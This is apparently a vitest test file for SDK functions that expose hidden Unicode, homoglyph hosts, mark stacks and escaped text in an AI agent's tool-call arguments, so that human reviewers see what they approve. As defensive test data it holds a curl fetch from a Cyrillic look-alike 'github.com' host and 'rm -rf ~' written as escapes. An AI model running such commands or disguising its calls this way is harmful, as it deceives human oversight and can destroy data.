// What a person reads of a held call: every character they would not see shown as its escape.
import { describe, expect, it } from "vitest";
import { readableArguments } from "../../sdk/readable-arguments.js";
import { mixedScriptNote, mixedScriptNotes, visibleText } from "../../sdk/visible-text.js";

describe("visibleText", () => {
  it("shows bidi controls, zero-width and format characters as escapes, and keeps tab, newline and letters", () => {
    expect(visibleText("a\u202Eb\u200Bc\uFEFF\u2066d\t\n\u0430")).toBe("a\\u202Eb\\u200Bc\\uFEFF\\u2066d\t\n\u0430");
    expect(visibleText("x\u{E0041}\uFE0F\u3164\u0007")).toBe("x\\u{E0041}\\uFE0F\\u3164\\u0007");
  });

  it("shows unassigned default-ignorable code points, which browsers draw as nothing", () => {
    expect(visibleText("comm\u2065and")).toBe("comm\\u2065and");
    expect(visibleText("a\uFFF0b\uFFF8c")).toBe("a\\uFFF0b\\uFFF8c");
    expect(visibleText("a\u{E0FFF}b\u{E0080}")).toBe("a\\u{E0FFF}b\\u{E0080}");
  });
});

describe("what a person reads of a held call's argument values", () => {
  it("shows blanks that are not U+0020 as escapes: space separators, the Braille blank, fillers", () => {
    expect(visibleText("/tmp/a\u2800\u00A0")).toBe("/tmp/a\\u2800\\u00A0");
    expect(visibleText("a\u2003b\u202Fc\u3000d\u1680e\u205Ff\u3164g")).toBe("a\\u2003b\\u202Fc\\u3000d\\u1680e\\u205Ff\\u3164g");
    expect(visibleText("a  b\tc\nd")).toBe("a  b\tc\nd");
  });

  it("marks a word or host that mixes Latin with Cyrillic or Greek letters, and says which letters", () => {
    const args = JSON.stringify({ command: "curl", args: ["https://g\u0456thub.com/x.sh", "-o", "/tmp/a\u2800\u00A0"] });
    expect(visibleText(args)).toBe('{"command":"curl","args":["https://⚠g\u0456thub.com/x.sh","-o","/tmp/a\\u2800\\u00A0"]}');
    expect(mixedScriptNotes(args)).toEqual(['"g\u0456thub.com" mixes Latin and Cyrillic letters, which can look alike: \u0456 (U+0456) is not Latin']);
    // A whole-Cyrillic name under a Latin top-level domain reads "apple.com".
    expect(visibleText("\u0430\u0440\u0440\u04CF\u0435.com")).toBe("⚠\u0430\u0440\u0440\u04CF\u0435.com");
    expect(mixedScriptNote("p\u0430yp\u0430l")).toBe('"p\u0430yp\u0430l" mixes Latin and Cyrillic letters, which can look alike: \u0430 (U+0430) is not Latin');
    expect(visibleText("\u03BFk x\u03BF")).toBe("⚠\u03BFk ⚠x\u03BF");
    // An invisible filler or a dot before the word does not hide it.
    expect(visibleText("\u3164g\u0456t .g\u0456t")).toBe("\\u3164⚠g\u0456t .⚠g\u0456t");
  });

  it("leaves honest text as it is: ASCII, accented Latin, whole-Cyrillic and whole-Greek words, CJK", () => {
    for (const text of ['{"path":"/tmp/x-1.y","n":42}', "café über Ærø", "Привет, мир: пример.рф", "λόγος καλός", "東京 Tokyo 東京Tokyo", "Привет hello"]) {
      expect(visibleText(text)).toBe(text);
      expect(mixedScriptNotes(text)).toEqual([]);
    }
  });

  it("reads long text once: a word is tried at its start only", () => {
    // Were each letter of a long word tried as a start, these would take minutes.
    for (const text of ["a.".repeat(100_000), "\u0430".repeat(100_000) + "-".repeat(100_000), `${"a".repeat(200_000)}\u0430`]) {
      expect(visibleText(text)).toBe(text.endsWith("\u0430") ? `⚠${text}` : text);
    }
  });

  it("shows each mark of a stack of four or more on one character, which covers the text around it; up to three stay", () => {
    expect(visibleText("cat x\u0336\u0336\u0336\u0336 /tmp")).toBe("cat x\\u0336\\u0336\\u0336\\u0336 /tmp");
    // Vietnamese and pointed Hebrew put up to three on a letter.
    for (const text of ["Tiê\u0301ng Viê\u0323\u0302t", "\u05E9\u05C1\u05B8\u0591"]) expect(visibleText(text)).toBe(text);
    // A stack inside a word that mixes scripts is shown so too, the word marked up to it.
    expect(visibleText("g\u0456t\u0305\u0305\u0305\u0305hub")).toBe("⚠g\u0456t\\u0305\\u0305\\u0305\\u0305hub");
  });

  it("shows private-use characters, which a font may draw as any letter", () => {
    expect(visibleText("rm\uE000 -rf")).toBe("rm\\uE000 -rf");
  });
});

const NONE = { blankRuns: 0, warningSigns: 0, mixedScriptWords: 0 };

describe("readableArguments", () => {
  it("decodes the arguments as the tool gets them and counts what was hidden or written as escapes", () => {
    expect(readableArguments(String.raw`{ "command" : "\u0072\u006d -rf ~", "n": 1.0 }`)).toEqual({
      text: '{"command":"rm -rf ~","n":1}',
      hiddenCharacters: 0,
      escapedCharacters: 2,
      ...NONE,
    });
    // A backslash written as such is no escape; a non-ASCII letter written as one is common and not counted.
    expect(readableArguments(String.raw`{"path":"C:\\u0072","word":"caf\u00e9"}`)).toEqual({
      text: String.raw`{"path":"C:\\u0072","word":"café"}`,
      hiddenCharacters: 0,
      escapedCharacters: 0,
      ...NONE,
    });
    expect(readableArguments(String.raw`{"a":"\u202E\u200B x"}`)).toEqual({
      text: String.raw`{"a":"\u202E\u200B x"}`,
      hiddenCharacters: 2,
      escapedCharacters: 0,
      ...NONE,
    });
    // No arguments run as {}; text that is not JSON is shown as written, its hidden characters marked.
    expect(readableArguments("  ")).toEqual({ text: "{}", hiddenCharacters: 0, escapedCharacters: 0, ...NONE });
    expect(readableArguments('{"a":"\u202E')).toEqual({ text: String.raw`{"a":"\u202E`, hiddenCharacters: 1, escapedCharacters: 0, ...NONE });
  });
});
